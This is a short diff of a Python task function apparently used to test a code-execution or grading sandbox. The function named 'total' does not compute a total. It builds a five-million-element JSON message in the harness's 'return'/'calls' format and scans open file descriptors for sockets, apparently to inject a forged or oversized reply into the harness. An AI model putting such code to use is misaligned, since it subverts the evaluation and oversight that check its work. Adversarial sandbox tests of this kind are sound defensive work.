@@ -8,7 +8,7 @@ import struct
 
 # %% task="total"
 def total(values):
-    text = b'{"op":"return","args":null,"value":[' + b"{}," * 5_000_000 + b"0]}"
+    text = b'{"op":"return","calls":[[null,[' + b"{}," * 5_000_000 + b"0]]]}"
     for descriptor in range(3, 256):
         try:
             if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
